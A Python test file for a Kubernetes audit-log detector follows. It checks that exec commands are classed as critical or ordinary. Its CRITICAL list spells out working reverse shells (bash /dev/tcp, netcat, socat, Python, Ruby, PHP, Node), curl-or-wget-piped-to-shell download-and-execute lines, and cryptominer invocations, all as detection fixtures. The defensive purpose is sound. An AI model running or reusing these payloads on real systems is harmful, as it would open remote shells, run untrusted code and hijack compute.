"""Critical exec commands (issue 16 req 2): reverse shells, download-and-execute and miners are critical, ordinary
commands are not, whether the command arrives as URL-encoded `command=` parameters or as a PodExecOptions body."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from kubehipaa.engines.auditlog import RULES_BY_ID, Detector, event_from_dict
from kubehipaa.engines.auditlog.exec_commands import critical_reason, shell_payloads
from kubehipaa.model import Severity

from .helpers import raw_event

CRITICAL = [
    ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
    ["/bin/sh", "-c", "exec 5<>/dev/tcp/10.0.0.1/4444; cat <&5 | while read l; do $l 2>&5 >&5; done"],
    ["bash", "-c", "sh -i >& /dev/udp/10.0.0.1/4444 0>&1"],
    ["sh", "-c", "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'"],
    ["busybox", "sh", "-c", "sh -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
    ["env", "bash", "-o", "pipefail", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"],
    ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
    ["nc", "10.0.0.1", "4444", "-e", "/bin/bash"],
    ["ncat", "-lvnp", "4444", "--exec", "/bin/sh"],
    ["netcat", "-c", "sh", "10.0.0.1", "4444"],
    ["/usr/bin/ncat", "--sh-exec", "id", "10.0.0.1", "4444"],
    ["sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f"],
    ["sh", "-c", "nc 10.0.0.1 4444 | /bin/bash"],
    ["socat", "tcp-connect:10.0.0.1:4444", "exec:/bin/sh,pty,stderr,setsid,sigint,sane"],
    ["socat", "TCP:10.0.0.1:4444", "SYSTEM:bash"],
    ["python3", "-c", "import socket,os,pty;s=socket.socket();s.connect(('10.0.0.1',4444));pty.spawn('sh')"],
    ["python", "-c", "import pty; pty.spawn('/bin/bash')"],
    ["perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"],
    ["ruby", "-rsocket", "-e", "f=TCPSocket.open('10.0.0.1',4444).to_i;exec sprintf('/bin/sh -i <&%d',f)"],
    ["php", "-r", "$sock=fsockopen('10.0.0.1',4444);exec('/bin/sh -i <&3 >&3 2>&3');"],
    ["node", "-e", "var c=require('net').Socket();c.connect(4444,'10.0.0.1')"],
    ["sh", "-c", "curl -fsSL http://203.0.113.9/x.sh | sh"],
    ["sh", "-c", "curl -s http://203.0.113.9/x | sudo bash -s --"],
    ["bash", "-c", "wget -O- http://203.0.113.9/x | sh"],
    ["sh", "-c", "wget -qO - http://203.0.113.9/x.py | python3"],
    ["bash", "-c", "bash <(curl -s http://203.0.113.9/x)"],
    ["sh", "-c", "sh -c \"$(curl -fsSL https://203.0.113.9/i.sh)\""],
    ["sh", "-c", "curl -o /tmp/k http://203.0.113.9/k && chmod +x /tmp/k && /tmp/k"],
    ["sh", "-c", "wget http://203.0.113.9/k -O /tmp/k; chmod 755 /tmp/k; /tmp/k"],
    ["/tmp/xmrig", "-o", "pool.example:3333", "-u", "wallet"],
    ["./xmrig-6.21.0/xmrig", "--donate-level", "1"],
    ["minerd", "-a", "cryptonight", "-o", "stratum+tcp://pool.example:3333"],
    ["sh", "-c", "nohup ./cpuminer -o stratum+tcp://pool.example:3333 &"],
    ["/opt/x", "--url", "stratum+ssl://pool.example:443"],
]

ORDINARY = [
    ["psql", "-U", "app", "-d", "clinic"],
    ["ls"],
    ["ls", "-la", "/data"],
    ["cat", "/etc/os-release"],
    ["bash"],
    ["bash", "-i"],
    ["sh", "-c", "ls /data | wc -l"],
    ["curl", "https://x.example/health"],
    ["sh", "-c", "curl -fsS https://x.example/health -o /tmp/out"],
    ["sh", "-c", "curl -s https://x.example/api | jq .status"],
    ["nc", "-zv", "db", "5432"],
    ["sh", "-c", "nc -z db 5432 && echo up"],
    ["python3", "-c", "print(1)"],
    ["python", "manage.py", "migrate"],
    ["cat", "/dev/tcp/10.0.0.1/4444"],  # no shell: /dev/tcp is a bash feature, cat just fails
    ["echo", "curl x | sh"],  # not shell text: echo prints it
    ["sh", "-c", "ls /dev/tcpdump-captures"],
    ["tar", "cf", "-", "/data"],
    ["mysql", "-e", "select 1"],
    ["env"],
]


@pytest.mark.parametrize("argv", CRITICAL, ids=lambda a: " ".join(a)[:60])
def test_reverse_shell_download_execute_and_miners_are_critical(argv: list[str]) -> None:
    assert critical_reason(argv)


@pytest.mark.parametrize("argv", ORDINARY, ids=lambda a: " ".join(a)[:60])
def test_ordinary_commands_are_not_critical(argv: list[str]) -> None:
    assert critical_reason(argv) is None


def test_shell_payload_is_the_first_non_option_argument_after_c() -> None:
    assert shell_payloads(["bash", "-c", "-e", "id"]) == ["id"]  # "-e" is an option; the string is "id"
    assert shell_payloads(["bash", "-e", "-c", "id"]) == ["id"]
    assert shell_payloads(["bash", "-lc", "id"]) == ["id"]
    assert shell_payloads(["sh", "--", "script.sh"]) == []
    assert shell_payloads(["bash", "-o", "pipefail", "-c", "id"]) == ["id"]
    assert shell_payloads(["sh", "script.sh", "-c", "x"]) == []


def _exec_uri(argv: list[str], *, plus: bool = False) -> str:
    def enc(a: str) -> str:
        q = quote(a, safe="")
        return q.replace("%20", "+") if plus else q

    query = "&".join(f"command={enc(a)}" for a in argv)
    return f"/api/v1/namespaces/ns/pods/p/exec?{query}&container=app&stdin=true&stdout=true&tty=true"


def _alerts(raw: dict) -> list:  # type: ignore[type-arg]
    return Detector([RULES_BY_ID["KH-AUDLOG-037"]]).process_all([event_from_dict(raw)])


def test_url_encoded_reverse_shell_as_the_api_server_logs_it_is_critical() -> None:
    uri = ("/api/v1/namespaces/ns/pods/p/exec?command=bash&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp"
           "%2F10.0.0.1%2F4444%200%3E%261&container=app&stdin=true&stdout=true&tty=true")
    got = _alerts(raw_event("create", "pods", ns="ns", sub="exec", name="p", code=101, uri=uri))
    assert [(a.rule_id, a.severity) for a in got] == [("KH-AUDLOG-037", Severity.CRITICAL)]
    assert "/dev/tcp" in got[0].message and "ns/p" in got[0].message


@pytest.mark.parametrize("plus", [False, True], ids=["percent-20", "plus"])
@pytest.mark.parametrize("argv", CRITICAL[:3] + CRITICAL[21:24], ids=lambda a: " ".join(a)[:40])
def test_every_space_encoding_of_the_query_is_decoded_once(argv: list[str], plus: bool) -> None:
    got = _alerts(raw_event("create", "pods", ns="ns", sub="exec", name="p", code=101, uri=_exec_uri(argv, plus=plus)))
    assert len(got) == 1


def test_double_encoded_text_is_not_decoded_twice() -> None:
    # %252F decodes once to the literal text "%2F": the process sees no /dev/tcp path.
    uri = "/api/v1/namespaces/ns/pods/p/exec?command=bash&command=-c&command=echo%20%252Fdev%252Ftcp%252Fx"
    assert _alerts(raw_event("create", "pods", ns="ns", sub="exec", name="p", code=101, uri=uri)) == []


def test_pod_exec_options_body_is_classified_too() -> None:
    body = {"kind": "PodExecOptions", "apiVersion": "v1", "command": ["sh", "-c", "curl -s http://x | sh"]}
    raw = raw_event("create", "pods", ns="ns", sub="exec", name="p", code=101,
                    uri="/api/v1/namespaces/ns/pods/p/exec", body=body)
    assert len(_alerts(raw)) == 1


@pytest.mark.parametrize("argv", ORDINARY[:4] + ORDINARY[7:8], ids=lambda a: " ".join(a)[:40])
def test_ordinary_url_encoded_exec_is_not_critical(argv: list[str]) -> None:
    raw = raw_event("create", "pods", ns="ns", sub="exec", name="p", code=101, uri=_exec_uri(argv))
    assert _alerts(raw) == []


def test_denied_exec_is_not_an_executed_command() -> None:
    raw = raw_event("create", "pods", ns="ns", sub="exec", name="p", code=403, decision="forbid",
                    uri=_exec_uri(CRITICAL[0]))
    assert _alerts(raw) == []


# ------------------------------------------------------------------------------- severities the issue names


@pytest.mark.parametrize(("rule_id", "severity"), [
    ("KH-AUDLOG-037", Severity.CRITICAL),  # reverse shell / download-execute / miner through exec
    ("KH-AUDLOG-019", Severity.CRITICAL),  # impersonation of system:masters / system:admin
    ("KH-AUDLOG-002", Severity.CRITICAL),  # ClusterRoleBinding to cluster-admin
    ("KH-AUDLOG-075", Severity.CRITICAL),  # admission webhook / policy deleted
    ("KH-AUDLOG-072", Severity.CRITICAL),  # audit or encryption configuration changed
    ("KH-AUDLOG-071", Severity.HIGH),  # webhook modified (caBundle injection is routine)
    ("KH-AUDLOG-017", Severity.MEDIUM),  # any other impersonation
    ("KH-AUDLOG-031", Severity.HIGH),  # broader suspicious commands (psql, curl alone, ...)
])
def test_documented_severity(rule_id: str, severity: Severity) -> None:
    rule = RULES_BY_ID[rule_id]
    assert rule.severity == severity
    if severity is Severity.CRITICAL:
        assert "Critical because" in rule.logic, f"{rule_id}: the description must say why it is critical"


def test_impersonating_system_masters_is_critical_and_ordinary_impersonation_is_not() -> None:
    rules = [RULES_BY_ID["KH-AUDLOG-017"], RULES_BY_ID["KH-AUDLOG-019"]]
    masters = {**raw_event(), "impersonatedUser": {"username": "mallory", "groups": ["system:masters"]}}
    got = Detector(rules).process_all([event_from_dict(masters)])
    assert sorted((a.rule_id, a.severity) for a in got) == [("KH-AUDLOG-017", Severity.MEDIUM),
                                                           ("KH-AUDLOG-019", Severity.CRITICAL)]
    assert "system:masters" in next(a.message for a in got if a.rule_id == "KH-AUDLOG-019")
    plain = Detector(rules).process_all([event_from_dict(raw_event(impersonate="alice@hospital.org"))])
    assert [a.rule_id for a in plain] == ["KH-AUDLOG-017"]


def test_webhook_deletion_is_critical_and_a_patch_is_not() -> None:
    rules = [RULES_BY_ID["KH-AUDLOG-071"], RULES_BY_ID["KH-AUDLOG-075"]]
    # 071 keeps its released meaning (modified OR deleted, high); a deletion is also the critical 075
    for verb, want in (("delete", [("KH-AUDLOG-071", Severity.HIGH), ("KH-AUDLOG-075", Severity.CRITICAL)]),
                       ("deletecollection", [("KH-AUDLOG-071", Severity.HIGH), ("KH-AUDLOG-075", Severity.CRITICAL)]),
                       ("patch", [("KH-AUDLOG-071", Severity.HIGH)])):
        raw = raw_event(verb, "validatingwebhookconfigurations", ns=None, name="w", group="admissionregistration.k8s.io")
        got = Detector(rules).process_all([event_from_dict(raw)])
        assert sorted((a.rule_id, a.severity) for a in got) == want, verb


def test_hostile_commands_cost_linear_time() -> None:
    """A 100 kB exec command (the API server accepts long request URIs) is classified in well under a second per
    shape; patterns with an unbounded span between two parts made these take minutes."""
    import time

    units = ("nc a ", "socat a ", "python -c x ", "curl a ", "curl a | ", "| sh x ", "sh -c ", "2>&1 ", "$( ")
    for unit in units:
        for argv in (["sh", "-c", unit * 20_000], [unit] * 20_000):
            start = time.perf_counter()
            critical_reason(argv)
            assert time.perf_counter() - start < 2.0, (unit, len(argv))
